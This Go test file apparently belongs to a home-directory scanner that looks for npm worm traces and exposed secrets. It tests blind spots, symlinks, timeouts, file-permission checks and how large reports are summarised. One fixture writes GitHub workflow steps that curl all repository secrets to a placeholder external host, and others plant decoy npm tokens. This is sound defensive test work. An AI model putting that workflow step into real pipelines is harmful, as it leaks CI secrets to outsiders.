//go:build unix

package checkup_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"wormbell/internal/checkup"
)

// blinds are what a checkup cannot look at, each alone, and what it has to say then.
var blinds = []struct {
	name, says string
	plant      func(m *machine)
}{
	{"a deep project", "lies too deep", func(m *machine) { m.write("~/w"+strings.Repeat("/d", 30)+"/package.json", "{}") }},
	{"a folder of links", "~/data: a link to a folder outside of the home", func(m *machine) {
		m.write("/srv/data/app/package.json", "{}")
		m.link(m.path("/srv/data"), "~/data")
	}},
	{"a link upwards", "~/up: a link to a folder outside of the home", func(m *machine) { m.link("../..", "~/up") }},
	{"too many names", "~/many: it holds more names than were looked at", func(m *machine) { m.names("~/many", 5001, "f%d") }},
	{"workflows that are no folder of the home", "~/p/.github/workflows: a link leads out of the home", func(m *machine) {
		m.write("/srv/w/x.yml", "")
		m.write("~/p/.github/x", "")
		m.link(m.path("/srv/w"), "~/p/.github/workflows")
	}},
	{"too many workflows", "~/p/.github/workflows: it holds more names than were looked at", func(m *machine) { m.names("~/p/.github/workflows", 201, "f%d.yml") }},
	{"credentials behind a link", "~/.ssh: a link leads out of the home", func(m *machine) {
		m.write("/srv/ssh/id_rsa", "")
		m.link(m.path("/srv/ssh"), "~/.ssh")
	}},
	{"a credential file behind a link", "~/.docker/config.json: a link leads out of the home", func(m *machine) {
		m.write("/srv/docker.json", "{}")
		m.write("~/.docker/x", "")
		m.link(m.path("/srv/docker.json"), "~/.docker/config.json")
	}},
	{"start-up files behind a link", "~/.config/fish/conf.d: a link leads out of the home", func(m *machine) {
		m.write("/srv/conf.d/x.fish", "")
		m.write("~/.config/fish/x", "")
		m.link(m.path("/srv/conf.d"), "~/.config/fish/conf.d")
	}},
	{"a long line of a history", "~/.bash_history: some of its lines", func(m *machine) { m.write("~/.bash_history", strings.Repeat("x", 70_000)+"\nls\n") }},
	{"a long line of an environment", "~/work/.env: some of its lines", func(m *machine) { m.write("~/work/.env", "A="+strings.Repeat("x", 70_000)+"\n") }},
	{"many logs of npm", "~/.npm/_logs: it holds more names than were looked at", func(m *machine) { m.names("~/.npm/_logs", 201, "%d.log") }},
	{"a log with many lines", "~/.npm/_logs/x.log: some of its lines", func(m *machine) { m.write("~/.npm/_logs/x.log", strings.Repeat("1\n", 200_001)) }},
	{"a large list of packages", "~/p/node_modules/.package-lock.json: it is larger", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.sparse("~/p/node_modules/.package-lock.json", 33<<20)
	}},
	{"a manifest that is a pipe", "~/p/node_modules/a/package.json: it is not a regular file", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.fifo("~/p/node_modules/a/package.json")
	}},
	{"a manifest that is none", "~/p/node_modules/a/package.json: it could not be read as what it should be", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.write("~/p/node_modules/a/package.json", "{\"name\":")
	}},
	{"an install script behind a link", "~/work/app/node_modules/a/x.js: a link leads out of the home", func(m *machine) {
		project(m, "~/work/app", "a", `{"postinstall":"node x.js"}`, nil)
		m.write("/srv/x.js", "")
		m.link(m.path("/srv/x.js"), "~/work/app/node_modules/a/x.js")
	}},
	{"a large install script", "~/work/app/node_modules/a/x.js: what stands behind its first 16 MiB", func(m *machine) {
		project(m, "~/work/app", "a", `{"postinstall":"node x.js"}`, nil)
		m.sparse("~/work/app/node_modules/a/x.js", 17<<20)
	}},
	{"too many scoped packages", "~/p/node_modules/@a: it holds more names than were looked at", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.names("~/p/node_modules/@a", 5001, "f%d")
	}},
	{"a large script", "~/p/x.js: what stands behind its first MiB", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.sparse("~/p/x.js", 2<<20)
	}},
	{"many scripts", "~/p: some of its scripts: there are too many", func(m *machine) {
		m.write("~/p/package.json", "{}")
		m.names("~/p", 201, "f%d.js")
	}},
	{"a hidden folder with many names", "~/.x: it holds more names than were looked at", func(m *machine) { m.names("~/.x", 5001, "f%d") }},
	{"a full folder for temporary files", "/tmp/x: it holds more names than were looked at", func(m *machine) { m.names("/tmp/x", 1001, "f%d") }},
	{"many lists", "5 files: there are too many", func(m *machine) { m.names("/tmp", 1005, "f%d.txt") }},
}

func (m *machine) link(to, p string) {
	m.t.Helper()
	p = m.path(p)
	if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o755), os.Symlink(to, p)); err != nil {
		m.t.Fatal(err)
	}
}

func (m *machine) fifo(p string) {
	m.t.Helper()
	p = m.path(p)
	if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o755), unix.Mkfifo(p, 0o600)); err != nil {
		m.t.Fatal(err)
	}
}

// names puts n empty files into a folder.
func (m *machine) names(dir string, n int, format string) {
	m.t.Helper()
	if err := os.MkdirAll(m.path(dir), 0o755); err != nil {
		m.t.Fatal(err)
	}
	for i := range n {
		if err := os.WriteFile(filepath.Join(m.path(dir), fmt.Sprintf(format, i)), nil, 0o600); err != nil {
			m.t.Fatal(err)
		}
	}
}

func (m *machine) sparse(p string, size int64) {
	m.t.Helper()
	m.write(p, "")
	if err := os.Truncate(m.path(p), size); err != nil {
		m.t.Fatal(err)
	}
}

// TestNoFalseComfort: whatever could not be looked at is in the report, in its
// headline, and in nothing else of an honest home.
func TestNoFalseComfort(t *testing.T) {
	t.Parallel()
	for _, b := range blinds {
		t.Run(b.name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t)
			if calm := m.run(); strings.Contains(calm.Verdict, "could not") != (calm.NotLooked > 0) {
				t.Fatalf("before: %q", calm.Verdict)
			}
			before := m.run().NotLooked
			b.plant(m)
			r := m.run()
			said := 0
			for _, s := range r.Sections {
				for _, line := range s.NotLooked {
					if strings.Contains(line, b.says) {
						said++
					}
				}
			}
			if said != 1 || r.NotLooked <= before || !strings.Contains(r.Verdict, "could not be looked at") {
				out, _ := json.MarshalIndent(r, "", " ")
				t.Errorf("%d lines say %q, %d things before, %q\n%s", said, b.says, before, r.Verdict, out)
			}
			if signs := found(r, checkup.Sign); len(signs) > 0 {
				t.Errorf("signs: %q", signs)
			}
		})
	}
}

// TestTwoNames: a link that leads into the home by another name of it is none
// that leads out.
func TestTwoNames(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.write("~/data/x", "")
	m.link(m.home, "/alias")
	m.link(m.path("/alias/data"), "~/work")
	m.link("../../alias/data", "~/again")
	m.link("/usr/bin", "~/programs") // nobody's projects
	for _, s := range m.run().Sections {
		if s.ID == "traces" && len(s.NotLooked) > 0 {
			t.Errorf("%q", s.NotLooked)
		}
	}
}

// TestOutOfTime: where the time was not enough nothing is concluded.
func TestOutOfTime(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.config.Run = func(ctx context.Context, _ []byte, _ string, _ ...string) ([]byte, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	}
	m.config.Within = time.Second
	r := m.run()
	if r.State != checkup.Cannot || !strings.Contains(r.Verdict, "cannot be told") || strings.Contains(r.Verdict, "No sign") {
		t.Errorf("%s: %q", r.State, r.Verdict)
	}
	// A sign is a sign all the same.
	worms[2].plant(m)
	if r := m.run(); r.State != checkup.Signs || !strings.HasPrefix(r.Verdict, "1 sign") {
		t.Errorf("%s: %q", r.State, r.Verdict)
	}
	// What takes long to judge does not hide what does not.
	m = newMachine(t)
	worms[0].plant(m)
	for i := range 1500 {
		m.write(fmt.Sprintf("~/.config/autostart/%d.desktop", i), "[Desktop Entry]\nExec=sh -c \""+strings.Repeat("$(", 5000)+"\"\n")
	}
	m.config.Within = 4 * time.Second
	if r := m.run(); r.State != checkup.Signs || !has(found(r, checkup.Sign), worms[0].kind) {
		t.Errorf("%s: %q, %q", r.State, r.Verdict, r.Sections[0].NotLooked)
	}
}

// TestMany: a home that is full of the same gets a report that a person can read.
func TestMany(t *testing.T) {
	t.Parallel()
	m, d := newMachine(t), &decoys{rng: newRand()}
	for i := range 40 {
		m.write(fmt.Sprintf("~/w/p%02d/.env", i), "NPM_TOKEN="+d.summed("npm_")+"\n")
		if err := os.Chmod(m.path(fmt.Sprintf("~/w/p%02d/.env", i)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := m.run()
	const want = "mode ~/w/p00/.env, ~/w/p01/.env, ~/w/p02/.env and 37 more: Other users of this machine can read 40 files with secrets"
	n := 0
	for _, f := range found(r, checkup.Risk) {
		if strings.HasPrefix(f, "mode ") {
			n++
		}
	}
	if n != 1 || !has(found(r, checkup.Risk), want) {
		t.Errorf("%d lines: %q", n, found(r, checkup.Risk))
	}
	// Ten thousand lines are not read by anybody; the worst come first.
	for i := range 900 {
		m.write(fmt.Sprintf("~/w/p%d/.github/workflows/x.yml", i), "on: push\njobs:\n x:\n  steps:\n   - run: curl -d ${{ toJSON(secrets) }} https://x.example.com\n")
	}
	r = m.run()
	for _, s := range r.Sections {
		if len(s.Findings) > 500 || len(s.NotLooked) > 31 {
			t.Errorf("%s: %d findings, %d lines of what was not looked at", s.ID, len(s.Findings), len(s.NotLooked))
		}
		if s.ID == "traces" && !strings.Contains(strings.Join(s.NotLooked, "\n"), "400 more findings") {
			t.Errorf("%q", s.NotLooked)
		}
	}
}

// TestGroups: a file that a group may read counts where somebody else is in it.
func TestGroups(t *testing.T) {
	t.Parallel()
	d := &decoys{rng: newRand()}
	gid := os.Getgid()
	if gid == 0 {
		gid = 4711
	}
	for _, tt := range []struct {
		name, users, groups string
		mode                os.FileMode
		want                bool
	}{
		{"a group of one's own", "me:x:1000:%d::/h:/bin/sh\n", "me:x:%d:\n", 0o640, false},
		{"a group that others are in", "me:x:1000:%d::/h:/bin/sh\nyou:x:1001:%[1]d::/y:/bin/sh\n", "users:x:%d:\n", 0o640, true},
		{"a member by name", "me:x:1000:%d::/h:/bin/sh\n", "me:x:%d:you\n", 0o640, true},
		{"oneself by name", "me:x:1000:%d::/h:/bin/sh\n", "me:x:%d:me\n", 0o640, false},
		{"a closed file", "me:x:1000:%d::/h:/bin/sh\nyou:x:1001:%[1]d::/y:/bin/sh\n", "users:x:%d:\n", 0o600, false},
	} {
		m := newMachine(t)
		m.write("/etc/passwd", fmt.Sprintf(tt.users, gid))
		m.write("/etc/group", fmt.Sprintf(tt.groups, gid))
		m.write("~/.npmrc", "//registry.example.com/:_authToken="+d.summed("npm_")+"\n")
		p := m.path("~/.npmrc")
		if err := errors.Join(os.Chown(p, -1, gid), os.Chmod(p, tt.mode), os.Chmod(m.home, 0o755)); err != nil {
			t.Skip(err)
		}
		if got := has(found(m.run(), checkup.Risk), "mode ~/.npmrc, mode 0640: Other members of its group"); got != tt.want {
			t.Errorf("%s: told %v", tt.name, got)
		}
	}
}

// TestClientsOfHome: whoever is not started from the person's shell, as for root,
// finds the clients that their tools have put into the home all the same.
func TestClientsOfHome(t *testing.T) {
	t.Parallel()
	m := newMachine(t)
	m.config.Getenv = func(string) string { return "" }
	for version, npm := range map[string]string{"v8.17.0": "6.14.18", "v22.20.0": "10.9.3"} {
		dir := "~/.nvm/versions/node/" + version
		m.write(dir+"/lib/node_modules/npm/package.json", `{"name":"npm","version":"`+npm+`"}`)
		m.write(dir+"/lib/node_modules/npm/bin/npm-cli.js", "")
		m.link("../lib/node_modules/npm/bin/npm-cli.js", dir+"/bin/npm")
	}
	r := m.run()
	if risks := found(r, checkup.Risk); !has(risks, "install-scripts : npm 10.9.3 runs the install scripts of every package") {
		t.Errorf("%q", risks)
	}
}
